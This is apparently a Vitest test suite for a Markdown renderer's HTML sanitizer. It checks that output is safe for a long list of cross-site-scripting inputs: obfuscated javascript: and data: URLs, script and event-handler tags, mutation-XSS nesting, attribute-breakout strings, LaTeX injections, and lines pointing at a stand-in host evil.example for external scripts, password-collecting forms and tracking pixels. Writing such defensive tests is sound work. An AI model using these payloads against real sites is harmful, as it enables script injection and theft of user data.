import { describe, expect, it } from 'vitest';
import { aPage, attribute, named, shown } from './kit/dom.js';
import { faults } from './kit/faults.js';

const schemes = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'jav&#x09;ascript:alert(1)',
  'java&#10;script:alert(1)',
  'java&#13;script:alert(1)',
  'jav\tascript:alert(1)',
  '&#x20;&#x09;javascript:alert(1)',
  '\u0001javascript:alert(1)',
  '&#x01;javascript:alert(1)',
  '&#x6a;avascript:alert(1)',
  '&#106;avascript:alert(1)',
  'javascript&colon;alert(1)',
  '&amp;#106;avascript:alert(1)',
  'da&#9;ta:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'vb&#9;script:msgbox(1)',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'view-source:javascript:alert(1)',
  'blob:https://evil.example/1',
  'java\u0000script:alert(1)',
  'feed:javascript:alert(1)',
];

const tags = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror\n=\nalert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><annotation-xml encoding="text/html"><svg onload=alert(1)></svg></annotation-xml></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object>',
  '<embed src="x.swf">',
  '<form action="https://evil.example"><input name=p type=password></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video poster="https://evil.example/x.png"><source onerror=alert(1)></video>',
  '<video src="https://evil.example/x.mp4"></video>',
  '<audio src=//evil.example/x.mp3></audio>',
  '<img src="https://evil.example/pixel.png">',
  '<img src="//evil.example/pixel.png">',
  '<img srcset="https://evil.example/pixel.png 2x">',
  '<img src="/\\evil.example/x.png">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><script>alert(1)</script>',
  '<title><script>alert(1)</script></title>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<a href="#" name=body id=x>x</a>',
  '<img name=getElementById src=x>',
  '<b id="site-main">x</b>',
  '<div class="site-side">x</div>',
  '<input type=text autofocus onfocus=alert(1)>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<a href="https://a.example" ping="https://evil.example">x</a>',
  '<td background="https://evil.example/x.png">',
  '<frameset onload=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<a target=_blank href="https://a.example">x</a>',
];

describe('markdown that means harm', () => {
  it.each(schemes)('leads nowhere: %j', (scheme) => {
    const forms = [
      `[x](${scheme})`,
      `[x](<${scheme}>)`,
      `![x](${scheme})`,
      `<${scheme}>`,
      `[x][y]\n\n[y]: ${scheme}`,
      `[[${scheme}|x]]`,
      `![[${scheme}]]`,
      ...['href', 'src', 'poster', 'action', 'formaction', 'background', 'data', 'xlink:href', 'srcset'].flatMap(
        (name) =>
          ['a', 'img', 'video', 'form', 'button', 'object', 'td', 'math', 'iframe'].map(
            (tag) => `<${tag} ${name}="${scheme}">x</${tag}>`,
          ),
      ),
    ];

    for (const form of forms) expect(faults(shown(form)), form).toEqual([]);
  });

  it.each(tags)('is text or nothing: %s', (tag) => {
    const nested = [
      tag,
      `Text ${tag} text`,
      `> ${tag}`,
      `- ${tag}`,
      `| a |\n|---|\n| ${tag} |`,
      `# ${tag}`,
      `::: info ${tag}\n${tag}\n:::`,
      `>! ${tag}`,
      `>| # ${tag}`,
      `> [!note] ${tag}\n> ${tag}`,
      `[^1]\n\n[^1]: ${tag}`,
      `$${tag}$`,
      `\`\`\`${tag}\n${tag}\n\`\`\``,
      `==${tag}==`,
      `*[${tag}]: x\n\n*[x]: ${tag}\n\n${tag} x`,
      `---\ntitle: [${tag}\n---\n\nx`,
      `---\ntitle: x\n${tag}\n---\n\nx`,
      `\`\`\`mermaid\n${tag}\n\`\`\``,
      `<div>[[x|${tag}]]</div>`,
      `<div title="[[x|${tag}]]">[[x]]</div>`,
      `<b>${tag}</b>`,
      `<math>${tag}</math>`,
      `[${tag}](x)`,
      `![${tag}](x)`,
    ];

    for (const text of nested) expect(faults(shown(text)), text).toEqual([]);
  });

  it('does not get out of the attributes it is put into', () => {
    const payloads = [
      'x" onerror="alert(1)',
      "x' onerror='alert(1)",
      'x&quot; onload=&quot;alert(1)',
      'x"><script>alert(1)</script>',
      '`onerror=alert(1)',
    ];

    for (const payload of payloads) {
      const texts = [
        `![${payload}](a.png)`,
        `![x](a.png "${payload}")`,
        `[x](a "${payload}")`,
        `![[a.png|${payload}]]`,
        `[[a|${payload}]]`,
        `\`\`\`${payload}\ncode\n\`\`\``,
        `$\\text{${payload}}$`,
        `$${payload}$`,
        `::: ${payload}\nx\n:::`,
        `[[#${payload}]]`,
        `![x](a.png =300x200 "${payload}")`,
        `![${payload}](a.png =300x200)`,
        `*[x]: ${payload}\n\nx`,
        `<div>[[a|${payload}]] ![[a.png|${payload}]]</div>`,
        `<div title='[[a|${payload}]]'>x</div>`,
        `<p ${payload} [[a]]>[[a]]</p>`,
        `\`\`\`mermaid ${payload}\n${payload}\n\`\`\``,
        `---\n${payload}\n---\n[[a]]`,
      ];
      const places = {
        './a.png': { kind: 'file', path: `${payload}/a.png` },
        'a.png': { kind: 'file', path: `${payload}/a.png` },
        a: { kind: 'page', path: payload },
        './a': { kind: 'missing', path: payload },
      } as const;
      for (const text of texts) expect(faults(shown(aPage(text, places))), text).toEqual([]);
    }
  });

  it('loads no picture from elsewhere: it becomes a link', () => {
    const elements = shown(
      '![a dot](https://evil.example/pixel.png?secret) <img src="https://evil.example/2.png" alt="two">',
    );

    expect(named(elements, 'img')).toEqual([]);
    expect(named(elements, 'a').map((link) => attribute(link, 'href'))).toEqual([
      'https://evil.example/pixel.png?secret',
      'https://evil.example/2.png',
    ]);
  });

  it.each([
    '\\href{javascript:alert(1)}{x}',
    '\\url{javascript:alert(1)}',
    '\\includegraphics{https://evil.example/x.png}',
    '\\htmlClass{site-side}{x}',
    '\\htmlId{site-main}{x}',
    '\\htmlStyle{position:fixed}{x}',
    '\\htmlData{onclick=alert(1)}{x}',
    '\\text{</math><img src=x onerror=alert(1)>}',
    '\\color{red" onclick="alert(1)}x',
    '\\unicode{<script>}',
    '\\def\\a{\\a\\a}\\a',
    '{'.repeat(2_000),
    '\\rule{1000em}{1000em}',
  ])('is a formula or its text: %s', (tex) => {
    for (const text of [`$${tex}$`, `$$\n${tex}\n$$`, `\`\`\`math\n${tex}\n\`\`\``, `\`$${tex}$\``]) {
      const elements = shown(text);
      expect(faults(elements), text).toEqual([]);
      expect([...named(elements, 'a'), ...named(elements, 'img')]).toEqual([]);
      expect(elements.map((one) => attribute(one, 'class') ?? '').filter((name) => name.includes('site-'))).toEqual([]);
    }
  });

  it('keeps the addresses of links as they are written', () => {
    const elements = shown(
      '[a](https://a.example/?x=1&reg=2&copy) <https://a.example/?y=1&amp=2>\n\n[b]\n\n[b]: https://a.example/?&lt',
    );

    expect(named(elements, 'a').map((link) => attribute(link, 'href'))).toEqual([
      'https://a.example/?x=1&reg=2&copy',
      'https://a.example/?y=1&amp=2',
      'https://a.example/?&lt',
    ]);
  });

  it('takes no name of the page around it', () => {
    const ids = shown('<b id="site-main">x</b>\n\n# Site main\n\n<p class="site-side wb-alert">x</p>').map(
      (element) => [attribute(element, 'id'), attribute(element, 'class')],
    );

    expect(ids.flat().filter((value) => value?.includes('site-'))).toEqual([]);
  });

  it('numbers and names that JavaScript knows are headings like others', () => {
    const elements = shown('# constructor\n\n# __proto__\n\n# hasOwnProperty\n\n# constructor\n');

    expect(named(elements, 'h1').map((heading) => attribute(heading, 'id'))).toEqual([
      'constructor',
      '__proto__',
      'hasownproperty',
      'constructor-1',
    ]);
  });
});
